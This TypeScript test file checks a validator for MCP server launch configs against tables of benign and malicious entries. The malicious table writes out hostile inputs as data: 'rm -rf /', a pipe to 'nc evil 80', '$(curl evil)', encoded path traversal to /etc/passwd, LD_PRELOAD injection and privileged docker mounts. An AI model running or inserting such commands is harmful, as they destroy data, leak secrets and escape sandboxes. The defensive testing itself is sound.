// Table-driven tests of the MCP command validator: every config has an expected verdict and rule.
import { test, after } from 'node:test';
import assert from 'node:assert/strict';
import { chmodSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync, mkdirSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { ServerEntrySchema, parseMcpConfig, type ServerEntry } from '../../src/agent/mcp/config.js';
import {
  DANGEROUS_ENV_VARS,
  MCPCommandValidator,
  allowUnsafeFromEnv,
  getValidator,
  setValidator,
  trustedDirs,
  validateServers,
  type ValidatorRule,
} from '../../src/agent/mcp/validator.js';

const tmp = mkdtempSync(join(tmpdir(), 'vmlx-validator-'));
after(() => rmSync(tmp, { recursive: true, force: true }));

// An executable named like a whitelisted command, in an untrusted directory.
mkdirSync(join(tmp, 'x'));
const fakeNpx = join(tmp, 'x', 'npx');
writeFileSync(fakeNpx, '#!/bin/sh\necho pwned\n');
chmodSync(fakeNpx, 0o755);
// A symlink in an untrusted directory to a real trusted binary: the location is what counts.
mkdirSync(join(tmp, 'y'));
symlinkSync(process.execPath, join(tmp, 'y', 'node'));

function entry(raw: Record<string, unknown>): ServerEntry {
  return ServerEntrySchema.parse(raw);
}
const stdio = (command: string, args: string[] = [], extra: Record<string, unknown> = {}) => entry({ command, args, ...extra });
const remote = (url: string, extra: Record<string, unknown> = {}) => entry({ url, ...extra });

type Case = [label: string, e: ServerEntry, expected: 'ok' | ValidatorRule, opts?: { allowUnsafe?: boolean; extra?: string[] }];

const benign: Case[] = [
  ['npx filesystem server', stdio('npx', ['-y', '@modelcontextprotocol/server-filesystem', '/tmp']), 'ok'],
  ['npx memory server', stdio('npx', ['-y', '@modelcontextprotocol/server-memory']), 'ok'],
  ['npx --yes scoped pkg with config', stdio('npx', ['--yes', '@acme/mcp', '--config', 'conf/x.json']), 'ok'],
  ['npx -p then package', stdio('npx', ['-p', '@acme/tools', 'acme-mcp']), 'ok'],
  ['node script', stdio('node', ['/opt/server/index.js']), 'ok'],
  ['node flags then script', stdio('node', ['--enable-source-maps', 'build/index.js', '--port', '3000']), 'ok'],
  ['node --require local file', stdio('node', ['--require', './setup.cjs', 'index.js']), 'ok'],
  ['node script gets -e as its own arg', stdio('node', ['server.js', '-e', 'production']), 'ok'],
  ['uvx server', stdio('uvx', ['mcp-server-fetch']), 'ok'],
  ['uvx --with a package', stdio('uvx', ['--with', 'requests>=2', 'mcp-server-fetch']), 'ok'],
  ['uv run script', stdio('uv', ['run', '--with', 'httpx', 'server.py']), 'ok'],
  ['python -m module', stdio('python', ['-m', 'mcp_server_time']), 'ok'],
  ['python3 -m module with its own -c', stdio('python3', ['-m', 'server', '-c', 'config.yaml']), 'ok'],
  ['python script with -c after it', stdio('python', ['server.py', '-c', 'conf.toml']), 'ok'],
  ['python -u -m', stdio('python3', ['-u', '-m', 'srv']), 'ok'],
  ['pip', stdio('pip', ['--version']), 'ok'],
  ['pip install a package', stdio('pip', ['install', '-r', 'requirements.txt', 'mcp-server-x>=1.0']), 'ok'],
  ['pipx run', stdio('pipx', ['run', 'mcp-server-x']), 'ok'],
  ['docker run image', stdio('docker', ['run', '-i', '--rm', 'mcp/fetch']), 'ok'],
  ['docker run with a data volume', stdio('docker', ['run', '-i', '--rm', '-v', '/home/user/data:/data', 'mcp/filesystem', '/data']), 'ok'],
  ['docker --privileged=false', stdio('docker', ['run', '--privileged=false', 'img']), 'ok'],
  ['docker ps is not run', stdio('docker', ['ps']), 'ok'],
  ['mcp-server-* binary', stdio('mcp-server-git', ['--repository', '/repo']), 'ok'],
  ['trusted absolute path to node', stdio('/usr/bin/node', ['server.js']), 'ok'],
  ['trusted path through a symlink (npx)', stdio('/usr/bin/npx', ['-y', 'pkg']), 'ok'],
  ['secret env value', stdio('npx', ['-y', '@modelcontextprotocol/server-github'], { env: { GITHUB_TOKEN: 'ghp_abcdefghijklmnopqrstuvwxyz' } }), 'ok'],
  ['env value with colons and stars', stdio('npx', ['srv'], { env: { DEBUG: 'mcp:*', DATABASE_URL: 'postgresql://u:p@localhost/db' } }), 'ok'],
  ['cwd', stdio('node', ['index.js'], { cwd: '/srv/mcp' }), 'ok'],
  ['key=value arg', stdio('npx', ['srv', 'mode=fast']), 'ok'],
  ['https remote', remote('https://api.example.com/mcp'), 'ok'],
  ['http loopback remote with bearer header', remote('http://127.0.0.1:3001/mcp', { headers: { Authorization: 'Bearer abc.def' } }), 'ok'],
  ['remote with query string', remote('https://h.example/mcp?a=1&b=2'), 'ok'],
  ['sse remote', remote('http://localhost:8080/sse', { type: 'sse' }), 'ok'],
  ['config allowedCommands', stdio('my-server', ['--stdio']), 'ok', { extra: ['my-server'] }],
  ['config allowedCommands prefix pattern', stdio('acme-tools', []), 'ok', { extra: ['acme-*'] }],
  ['skip_security_validation with --allow-unsafe-mcp', stdio('bash', ['-c', 'x'], { skip_security_validation: true }), 'ok', { allowUnsafe: true }],
];

const malicious: Case[] = [
  ['bash', stdio('bash', ['-c', 'rm -rf /']), 'command_whitelist'],
  ['sh', stdio('sh', ['-c', 'id']), 'command_whitelist'],
  ['curl', stdio('curl', ['http://evil.example']), 'command_whitelist'],
  ['chained command name', stdio('npx; rm -rf /', []), 'command_whitelist'],
  ['/usr/bin/bash', stdio('/usr/bin/bash', []), 'command_whitelist'],
  ['mcp-server- with nothing after it', stdio('mcp-server-', []), 'command_whitelist'],
  ['npx in /tmp', stdio(fakeNpx, ['-y', 'pkg']), 'untrusted_path'],
  ['relative ./npx from an untrusted cwd', stdio('./npx', [], { cwd: join(tmp, 'x') }), 'untrusted_path'],
  ['symlink to node from an untrusted dir', stdio(join(tmp, 'y', 'node'), ['s.js']), 'untrusted_path'],
  ['missing trusted-looking path', stdio('/usr/bin/mcp-server-does-not-exist-zz', []), 'untrusted_path'],
  ['semicolon in arg', stdio('npx', ['-y', 'pkg; rm -rf ~']), 'shell_metachar'],
  ['&& in arg', stdio('npx', ['pkg && curl evil']), 'shell_metachar'],
  ['|| in arg', stdio('npx', ['pkg || true']), 'shell_metachar'],
  ['pipe in arg', stdio('npx', ['pkg | nc evil 80']), 'shell_metachar'],
  ['backticks', stdio('npx', ['`id`']), 'shell_metachar'],
  ['$( in arg', stdio('npx', ['$(id)']), 'shell_metachar'],
  ['$( in env value', stdio('npx', ['pkg'], { env: { X: '$(curl evil)' } }), 'shell_metachar'],
  ['fullwidth semicolon', stdio('npx', ['a\uFF1Bb']), 'shell_metachar'],
  ['fullwidth pipe', stdio('npx', ['a\uFF5Cb']), 'shell_metachar'],
  ['${ in arg', stdio('npx', ['${HOME}/x']), 'unexpanded_variable'],
  ['${ left in env value', stdio('npx', ['pkg'], { env: { A: '${B}' } }), 'unexpanded_variable'],
  ['../ in arg', stdio('npx', ['srv', '../../etc/passwd']), 'path_traversal'],
  ['..\\ in arg', stdio('npx', ['srv', '..\\..\\windows']), 'path_traversal'],
  ['percent-encoded ../', stdio('npx', ['srv', '%2e%2e%2fsecret']), 'path_traversal'],
  ['mixed encoding ..%2f', stdio('npx', ['srv', '..%2fsecret']), 'path_traversal'],
  ['double-encoded ../', stdio('npx', ['srv', '%252e%252e%252fsecret']), 'path_traversal'],
  ['overlong utf-8 ../', stdio('npx', ['srv', '%c0%ae%c0%ae/secret']), 'path_traversal'],
  ['%u encoded ../', stdio('npx', ['srv', '%u002e%u002e%u002fsecret']), 'path_traversal'],
  ['fullwidth ．．／', stdio('npx', ['srv', '\uFF0E\uFF0E\uFF0Fetc']), 'path_traversal'],
  ['one dot leader ‥/', stdio('npx', ['srv', '\u2024\u2024/x']), 'path_traversal'],
  ['division slash', stdio('npx', ['srv', '..\u2215x']), 'path_traversal'],
  ['fraction slash', stdio('npx', ['srv', '..\u2044x']), 'path_traversal'],
  ['fullwidth backslash', stdio('npx', ['srv', '..\uFF3Cx']), 'path_traversal'],
  ['flag=..', stdio('npx', ['srv', '--root=..']), 'path_traversal'],
  ['traversal in env value', stdio('npx', ['srv'], { env: { ROOT: '/srv/../etc' } }), 'path_traversal'],
  ['traversal in command', stdio('/usr/bin/../bin/npx', []), 'path_traversal'],
  ['newline in arg', stdio('npx', ['a\nb']), 'control_char'],
  ['carriage return in arg', stdio('npx', ['a\rb']), 'control_char'],
  ['NUL in arg', stdio('npx', ['a\0b']), 'control_char'],
  ['encoded newline', stdio('npx', ['a%0aid']), 'control_char'],
  ['newline in env value', stdio('npx', ['srv'], { env: { A: 'x\ny' } }), 'control_char'],
  ['newline in cwd', stdio('npx', ['srv'], { cwd: '/srv\n/x' }), 'control_char'],
  ['python -c', stdio('python', ['-c', 'import os; os.system("id")'.replace(';', ',')]), 'inline_code'],
  ['python3 -c', stdio('python3', ['-c', 'print(1)']), 'inline_code'],
  ['python3 -Ic (clustered)', stdio('python3', ['-Ic', 'print(1)']), 'inline_code'],
  ['python -W value then -c', stdio('python', ['-W', 'ignore', '-c', 'print(1)']), 'inline_code'],
  ['node -e', stdio('node', ['-e', 'require("child_process")']), 'inline_code'],
  ['node --eval', stdio('node', ['--eval', '1']), 'inline_code'],
  ['node --eval=', stdio('node', ['--eval=1']), 'inline_code'],
  ['node -p', stdio('node', ['-p', 'process.env']), 'inline_code'],
  ['node --print', stdio('node', ['--print', '1']), 'inline_code'],
  ['node --print=', stdio('node', ['--print=1']), 'inline_code'],
  ['node -pe', stdio('node', ['-pe', '1']), 'inline_code'],
  ['node --import data: URL', stdio('node', ['--import=data:text/javascript,console.log(1)', 'x.js']), 'inline_code'],
  ['node --inspect', stdio('node', ['--inspect=0.0.0.0:9229', 'x.js']), 'inline_code'],
  ['node --inspect-brk', stdio('node', ['--inspect-brk', 'x.js']), 'inline_code'],
  ['npx --node-options', stdio('npx', ['--node-options=--require=/tmp/x.js', 'pkg']), 'dangerous_env'],
  ['pip install a local path', stdio('pip', ['install', '/tmp/evil']), 'inline_code'],
  ['pip install -e', stdio('pip', ['install', '-e', 'git+https://h.example/x.git']), 'inline_code'],
  ['node --env-file', stdio('node', ['--env-file=.env', 'x.js']), 'dangerous_env'],
  ['npx -c', stdio('npx', ['-c', 'id']), 'inline_code'],
  ['npx --call', stdio('npx', ['--call', 'id']), 'inline_code'],
  ['npx --call=', stdio('npx', ['--call=id']), 'inline_code'],
  ['npm exec -c', stdio('npm', ['exec', '-c', 'id']), 'inline_code'],
  ['npx node -e (nested)', stdio('npx', ['-y', 'node', '-e', '1']), 'inline_code'],
  ['uvx --with ./path', stdio('uvx', ['--with', './evil', 'mcp-server-x']), 'inline_code'],
  ['uvx --with=/abs/path', stdio('uvx', ['--with=/tmp/evil', 'mcp-server-x']), 'inline_code'],
  ['uvx --with list containing a path', stdio('uvx', ['--with', 'requests,~/evil', 'mcp-server-x']), 'inline_code'],
  ['uvx --with file: URL', stdio('uvx', ['--with', 'file:///tmp/evil', 'mcp-server-x']), 'inline_code'],
  ['uvx --with-editable', stdio('uvx', ['--with-editable', 'pkg', 'mcp-server-x']), 'inline_code'],
  ['uvx --from a path', stdio('uvx', ['--from', './local', 'srv']), 'inline_code'],
  ['uv run --with a path', stdio('uv', ['run', '--with', '/tmp/evil', 'server.py']), 'inline_code'],
  ['uvx python -c (nested)', stdio('uvx', ['python', '-c', 'print(1)']), 'inline_code'],
  ['docker run --privileged', stdio('docker', ['run', '--privileged', 'img']), 'dangerous_docker'],
  ['docker run -v /:/host', stdio('docker', ['run', '-v', '/:/host', 'img']), 'dangerous_docker'],
  ['docker run --volume=/:/host:ro', stdio('docker', ['run', '--volume=/:/host:ro', 'img']), 'dangerous_docker'],
  ['docker run --mount source=/', stdio('docker', ['run', '--mount', 'type=bind,source=/,target=/h', 'img']), 'dangerous_docker'],
  ['docker run --pid=host', stdio('docker', ['run', '--pid=host', 'img']), 'dangerous_docker'],
  ['docker run --pid host', stdio('docker', ['run', '--pid', 'host', 'img']), 'dangerous_docker'],
  ['docker run docker.sock', stdio('docker', ['run', '-v', '/var/run/docker.sock:/var/run/docker.sock', 'img']), 'dangerous_docker'],
  ['docker run --cap-add=ALL', stdio('docker', ['run', '--cap-add=ALL', 'img']), 'dangerous_docker'],
  ['docker run seccomp unconfined', stdio('docker', ['run', '--security-opt', 'seccomp=unconfined', 'img']), 'dangerous_docker'],
  ['docker container run --privileged', stdio('docker', ['container', 'run', '--privileged', 'img']), 'dangerous_docker'],
  ['file: URL', remote('file:///etc/passwd'), 'url_scheme'],
  ['ftp URL', remote('ftp://example.com/mcp'), 'url_scheme'],
  ['javascript: URL', remote('javascript:alert(1)'), 'url_scheme'],
  ['not a URL', remote('localhost:3000'), 'url_scheme'],
  ['URL with ../', remote('http://h.example/a/../b'), 'path_traversal'],
  ['URL with encoded ../', remote('http://h.example/a/%2e%2e%2fb'), 'path_traversal'],
  ['URL with ;', remote('http://h.example/mcp;rm'), 'shell_metachar'],
  ['URL with ${ after expansion', remote('http://h.example/${X}'), 'unexpanded_variable'],
  ['header with CRLF', remote('http://h.example/mcp', { headers: { 'X-A': 'a\r\nInjected: 1' } }), 'control_char'],
  ['skip_security_validation without --allow-unsafe-mcp', stdio('bash', ['-c', 'x'], { skip_security_validation: true }), 'unsafe_not_allowed'],
  ['custom whitelist does not admit others', stdio('other-server', []), 'command_whitelist', { extra: ['my-server'] }],
  ...DANGEROUS_ENV_VARS.map((name): Case => [`env ${name}`, stdio('npx', ['srv'], { env: { [name]: '/tmp/x' } }), 'dangerous_env']),
  ['env DYLD_INSERT_LIBRARIES', stdio('npx', ['srv'], { env: { DYLD_INSERT_LIBRARIES: '/tmp/x.dylib' } }), 'dangerous_env'],
  ['env ld_preload in lower case', stdio('npx', ['srv'], { env: { ld_preload: '/tmp/x.so' } }), 'dangerous_env'],
];

test(`validator table: ${benign.length + malicious.length} configs with verdict and rule`, () => {
  assert.ok(benign.length + malicious.length >= 60);
  const v = new MCPCommandValidator();
  const failures: string[] = [];
  for (const [label, e, expected, opts] of [...benign, ...malicious]) {
    const r = v.validate('srv', e, { allowUnsafe: opts?.allowUnsafe ?? false, extraWhitelist: opts?.extra ?? [] });
    const got = r.ok ? 'ok' : r.rule;
    if (got !== expected) failures.push(`${label}: expected ${expected}, got ${got}${r.ok ? '' : ` (${r.message})`}`);
    if (!r.ok) assert.match(r.message, /^MCP server 'srv': /, label);
  }
  assert.deepEqual(failures, []);
});

test('the whitelist message reads exactly as documented', () => {
  const r = new MCPCommandValidator().validate('malicious', stdio('bash', ['-c', 'rm -rf /']));
  assert.deepEqual(r, { ok: false, rule: 'command_whitelist', message: "MCP server 'malicious': Command 'bash' is not in the allowed commands whitelist." });
});

test('messages stay on one line whatever the config contains', () => {
  const v = new MCPCommandValidator();
  for (const e of [stdio('np\nx', []), stdio(join(tmp, 'x\ny', 'npx'), []), stdio('npx', ['a'], { env: { 'LD_PRE\nLOAD': 'x' } }), remote('ftp://h\r\n/x')]) {
    const r = v.validate('s', e);
    assert.ok(!r.ok, JSON.stringify(e));
    assert.ok(!/[\r\n]/.test(r.message), r.message);
  }
  const r = v.validate('s', stdio('bash\nx', []));
  assert.ok(!r.ok && r.message === "MCP server 's': Command 'bash\\nx' is not in the allowed commands whitelist.", !r.ok ? r.message : '');
});

test('skip_security_validation: refusal says how, an honoured bypass carries a warning', () => {
  const e = stdio('my-dev-server', [], { skip_security_validation: true });
  const refused = new MCPCommandValidator().validate('custom', e);
  assert.equal(refused.ok, false);
  assert.ok(!refused.ok && /--allow-unsafe-mcp/.test(refused.message) && /VMLX_ALLOW_UNSAFE_MCP=1/.test(refused.message));
  const honoured = new MCPCommandValidator().validate('custom', e, { allowUnsafe: true });
  assert.ok(honoured.ok && honoured.bypassed === true && /security validation skipped/.test(honoured.warning));
  assert.equal(allowUnsafeFromEnv({ VMLX_ALLOW_UNSAFE_MCP: '1' }), true);
  assert.equal(allowUnsafeFromEnv({ VMLX_ALLOW_UNSAFE_MCP: '0' }), false);
  assert.equal(allowUnsafeFromEnv({}), false);
});

test('custom whitelist from code via setValidator, and an absolute path listed verbatim', () => {
  const before = getValidator();
  try {
    setValidator(new MCPCommandValidator({ customWhitelist: ['my-trusted-server', fakeNpx] }));
    assert.deepEqual(getValidator().validate('a', stdio('my-trusted-server', [])), { ok: true });
    assert.deepEqual(getValidator().validate('b', stdio(fakeNpx, [])), { ok: true });
    assert.equal(before.validate('a', stdio('my-trusted-server', [])).ok, false);
  } finally {
    setValidator(before);
  }
});

test('validateServers: a bad server does not stop the others; config allowedCommands apply; disabled are still checked', () => {
  const config = parseMcpConfig(
    JSON.stringify({
      mcpServers: {
        fs: { command: 'npx', args: ['-y', '@modelcontextprotocol/server-filesystem', '/tmp'] },
        malicious: { command: 'bash', args: ['-c', 'rm -rf /'] },
        mine: { command: 'acme-mcp' },
        off: { command: 'node', args: ['-e', '1'], enabled: false },
      },
      security: { allowedCommands: ['acme-mcp'] },
    }),
    'mcp.json',
  );
  const results = validateServers(config);
  const byName = Object.fromEntries(results.map((r) => [r.name, r]));
  assert.equal(byName.fs!.result.ok, true);
  assert.equal(byName.malicious!.result.ok, false);
  assert.equal(byName.mine!.result.ok, true);
  assert.equal(byName.off!.enabled, false);
  assert.ok(!byName.off!.result.ok && byName.off!.result.rule === 'inline_code');
});

test('trusted directories: system dirs and absolute PATH entries, never relative or world-writable ones', () => {
  const open = join(tmp, 'world');
  mkdirSync(open);
  chmodSync(open, 0o777);
  const mine = join(tmp, 'mybin');
  mkdirSync(mine);
  const dirs = trustedDirs({ PATH: [mine, open, 'relative/bin', '.'].join(':') });
  assert.ok(dirs.has(realpathSync(mine)));
  assert.ok(!dirs.has(realpathSync(open)));
  assert.ok(!dirs.has(realpathSync('.')), 'the current directory (the repo) is not trusted');
  assert.ok(dirs.has(realpathSync('/usr/bin')));
});
